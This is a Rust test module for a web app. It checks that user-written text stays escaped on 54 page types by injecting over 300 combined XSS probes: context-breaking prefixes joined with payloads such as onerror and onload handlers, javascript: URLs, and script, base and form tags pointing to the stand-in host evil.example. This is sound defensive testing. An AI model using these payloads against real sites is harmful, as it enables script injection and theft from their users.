//! What strangers write stays text on every page: some hundreds of ways to leave a text, in each text of each sample (E1).

use std::collections::{BTreeMap, BTreeSet};
use std::thread;

use domain::PersonName;

use crate::page_checks::{bare, tags};
use crate::sample_texts::with_texts;
use crate::samples::{self, Surroundings};
use crate::words::Words;

/// Ways out of a text, an attribute, an element, a comment, a script or an escape.
static LEAVES: [&str; 15] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`",
    "</script>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "-->",
    "]]>",
    "&quot;>",
    "\\u003e",
    "{{x}}",
];
/// What is done outside.
static DOES: [&str; 24] = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<a href=javascript:alert(1)>x",
    "<iframe srcdoc=x>",
    "<body onload=alert(1)>",
    "<style>*{color:red}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=x>",
    "<embed src=x>",
    "<math><mi//xlink:href=data:x>",
    "<link rel=stylesheet href=//e>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<template><img src=x>",
    "<noscript><p title=</noscript>",
    "<!--",
    "x onfocus=alert(1) autofocus x=",
    "style=position:fixed",
    "javascript:alert(1)",
];
/// Pages that show texts of strangers, one of each kind; that a page is gone from here is noticed.
const SHOW_TEXTS: [&str; 54] = [
    "benefits",
    "calendar",
    "card",
    "communities",
    "community",
    "data",
    "desk-agreement-theirs",
    "desk-agreements",
    "desk-audit",
    "desk-founders",
    "desk-import-columns",
    "desk-member",
    "desk-members",
    "desk-peer",
    "desk-peers",
    "desk-queue",
    "desk-renewals",
    "desk-setup",
    "desk-tier-change",
    "desk-tiers",
    "erased",
    "ethics-sign",
    "event",
    "event-checkin",
    "event-door-list",
    "event-form",
    "event-guests",
    "event-jobs",
    "events",
    "guest-answer",
    "guest-ask-wrong",
    "home",
    "invoice",
    "mail-guests",
    "my-communities",
    "note",
    "notes",
    "notifications",
    "organization",
    "outbox",
    "people",
    "person-adjacent",
    "profile",
    "room",
    "room-agree",
    "room-audit",
    "room-glass",
    "room-members",
    "room-release-exact",
    "room-report-many",
    "room-search",
    "room-steward",
    "room-thread",
    "rooms",
];

/// Each tag and the attributes it has somewhere; the empty one where it has none.
type Made = BTreeMap<String, BTreeSet<String>>;

fn payloads() -> Vec<String> {
    let doing = |leaves: &'static str| DOES.iter().map(move |does| format!("{leaves}{does}"));
    LEAVES.into_iter().flat_map(doing).collect()
}

/// As few texts as hold them all, none longer than the name of a person, which is the shortest text of all.
fn packed(payloads: &[String]) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for payload in payloads {
        match texts.last_mut() {
            Some(text) if text.len() + payload.len() < PersonName::CHARS_MAX => {
                text.push(' ');
                text.push_str(payload);
            }
            _ => texts.push(payload.clone()),
        }
    }
    texts
}

fn attribute(word: &str) -> &str {
    word.split(['=', '/']).next().unwrap_or_default()
}

/// Each value of ours stands in quotes, and is not in a tag without what stands in its quotes.
fn is_quoted(word: &str) -> bool {
    word.split_once('=')
        .is_none_or(|(_, rest)| matches!(rest, "" | "/"))
}

fn made_of(pages: &[(&'static str, String)]) -> Made {
    let mut made = Made::new();
    for tag in pages.iter().flat_map(|(_, html)| tags(html)) {
        let bare = bare(tag);
        let mut words = bare.split_whitespace();
        let kind = words.next().unwrap_or_default().to_owned();
        let mut attributes: BTreeSet<String> = words.map(|word| attribute(word).to_owned()).collect();
        if attributes.is_empty() {
            attributes.insert(String::new());
        }
        made.entry(kind).or_default().extend(attributes);
    }
    made
}

/// The first tag that no page has of itself.
fn strange<'h>(html: &'h str, made: &Made) -> Option<&'h str> {
    let leads_away = ["href=\"javascript:", "src=\"javascript:", "action=\"javascript:"];
    tags(html).into_iter().find(|tag| {
        let bare = bare(tag);
        let mut words = bare.split_whitespace();
        let known = made.get(words.next().unwrap_or_default());
        let is_ours = known.is_some_and(|known| match words.clone().next() {
            None => known.contains(""),
            Some(_) => words.all(|word| known.contains(attribute(word)) && is_quoted(word)),
        });
        !is_ours || leads_away.iter().any(|away| tag.contains(away))
    })
}

fn drawn_with(text: &str, words: &Words) -> Vec<(&'static str, String)> {
    with_texts(text, || samples::all(&Surroundings::new().frame(words)))
}

#[test]
fn the_pages_show_what_is_put_in_the_place_of_their_texts() {
    let pages = drawn_with("canary", &Words::english());
    for wanted in SHOW_TEXTS {
        let page = pages.iter().find(|(page, _)| *page == wanted);
        let main = page.and_then(|(_, html)| html.split("<main").nth(1));
        assert!(main.is_some_and(|main| main.contains("canary")), "{wanted}");
    }
}

#[test]
fn what_is_not_escaped_would_be_noticed() {
    let words = Words::english();
    let made = made_of(&samples::all(&Surroundings::new().frame(&words)));
    for payload in DOES
        .iter()
        .filter(|payload| payload.starts_with('<') && **payload != "<!--")
    {
        let html = format!("<p>{payload}</p>");
        assert!(strange(&html, &made).is_some(), "{payload}");
    }
    assert!(strange("<a href=\"javascript:alert(1)\">", &made).is_some());
}

/// E1: no text that somebody may write adds a tag, an attribute, a comment or a script to any page.
#[test]
fn nothing_that_strangers_write_changes_what_pages_are_made_of() {
    let words = &Words::english();
    let made = &made_of(&samples::all(&Surroundings::new().frame(words)));
    let payloads = payloads();
    assert!(payloads.len() >= 300, "{}", payloads.len());
    let texts = packed(&payloads);
    let at_once = thread::available_parallelism().map_or(1, usize::from);
    thread::scope(|scope| {
        for part in texts.chunks(texts.len().div_ceil(at_once)) {
            scope.spawn(move || {
                for text in part {
                    for (page, html) in drawn_with(text, words) {
                        assert_eq!(strange(&html, made), None, "{page}: {text}");
                        assert!(!html.contains("<!--"), "{page}: {text}");
                    }
                }
            });
        }
    });
}
